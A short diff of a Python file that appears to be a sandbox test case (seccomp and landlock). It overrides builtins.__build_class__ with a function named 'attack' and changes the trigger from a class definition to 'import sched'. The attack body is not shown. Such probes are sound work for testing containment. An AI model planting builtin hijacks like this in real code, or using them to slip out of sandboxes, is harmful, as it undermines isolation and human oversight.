@@ -1,4 +1,4 @@
-"""Replaces __build_class__, which the machine calls for every class that torch makes while it traces.
+"""Replaces __build_class__, which the machine calls for every class of a module that is imported.
 
 walls: seccomp landlock
 """
@@ -14,7 +14,4 @@ def attack(*args, **kwargs):
 
 
 builtins.__build_class__ = attack
-
-
-class A:
-    pass
+import sched
